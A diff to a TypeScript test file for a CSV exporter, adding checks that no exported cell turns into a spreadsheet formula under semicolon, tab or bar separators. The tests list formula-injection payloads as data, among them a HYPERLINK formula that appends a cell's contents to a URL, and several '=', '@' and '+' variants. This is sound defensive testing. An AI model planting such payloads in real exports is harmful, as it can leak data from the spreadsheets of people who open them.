@@ -1,6 +1,7 @@
 import { execFileSync, spawnSync } from "node:child_process";
 import { existsSync, readFileSync } from "node:fs";
 import { join } from "node:path";
+import fc from "fast-check";
 import { expect, test } from "vitest";
 import { z } from "zod";
 import { csvHeader, csvRow, type ExportedEntry } from "./index.ts";
@@ -24,9 +25,8 @@ const isPythonPresent = spawnSync("python3", ["-c", "import csv"]).status === 0;
 if (!isPythonPresent) process.stderr.write("csv read by Python: skipped, there is no python3\n");
 
 /** The cells as a reader that is not ours finds them. */
-function readByPython(file: string): string[][] {
-  const program =
-    "import csv,io,json,sys; print(json.dumps(list(csv.reader(io.TextIOWrapper(sys.stdin.buffer, encoding='utf-8', newline='')))))";
+function readByPython(file: string, separator = ","): string[][] {
+  const program = `import csv,io,json,sys; print(json.dumps(list(csv.reader(io.TextIOWrapper(sys.stdin.buffer, encoding='utf-8', newline=''), delimiter=${JSON.stringify(separator)}))))`;
   const out = execFileSync("python3", ["-c", program], { input: file });
   return z.array(z.array(z.string())).parse(JSON.parse(out.toString("utf8")));
 }
@@ -49,7 +49,45 @@ const ownPayloads = [
   '=HYPERLINK("https://example.com?"&A1,"x")',
   'a "quoted", one\r\nand another',
   "\u202Egro.elpmaxe",
+  "a;=1+1",
+  'a; "=1+1',
+  'a";=1+1',
+  "a|+1",
+  "a\t@SUM(A1)",
+  "a\r-1+1",
+  ";=1",
+  "a;'=1",
+  "'=1",
 ];
+
+test.runIf(isPythonPresent)("no cell is a formula where files are split at semicolons, tabs or bars", () => {
+  const payloads = [...ownPayloads, ...(isListPresent ? readFileSync(list, "utf8").split("\n") : [])];
+  const rows = payloads.flatMap((payload) => [csvRow(entry(`x;${payload}`)), csvRow(entry(payload))]);
+  for (const separator of [";", "\t", "|"]) {
+    for (const cell of readByPython(csvHeader + rows.join(""), separator).flat()) {
+      expect(isFormula(cell), cell).toBe(false);
+    }
+  }
+});
+
+/** What docs/exports.md says of reading a cell back. */
+function readBack(cell: string): string {
+  return cell
+    .replace(/(^|[;|])'(?=[\s"']*[=+\-@\u2010-\u2015\u2212\uFF0B\uFF0D\uFF1D\uFF20])/g, "$1")
+    .replace(/\\u\{([0-9a-f]+)\}/g, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)));
+}
+
+test.runIf(isPythonPresent)("what was guarded and named is read back exactly", () => {
+  const hostile = fc.string({ unit: fc.constantFrom(..."=+-@;|'\" \t\r\n\\u{}5c,a\u202E\uFF1D\u{E0001}") });
+  const texts = [
+    ...fc.sample(hostile, { numRuns: 500, seed: 5 }),
+    ...ownPayloads,
+    "\\u{41}",
+    "\\\\u{5c}u{41}",
+  ];
+  const rows = readByPython(texts.map((text) => csvRow(entry(text))).join(""));
+  expect(rows.map((row) => readBack(row[resourceColumn] ?? ""))).toEqual(texts);
+});
 
 test.runIf(isPythonPresent)("Python reads every cell of ours, and none is a formula", () => {
   const payloads = [...ownPayloads, ...(isListPresent ? readFileSync(list, "utf8").split("\n") : [])];
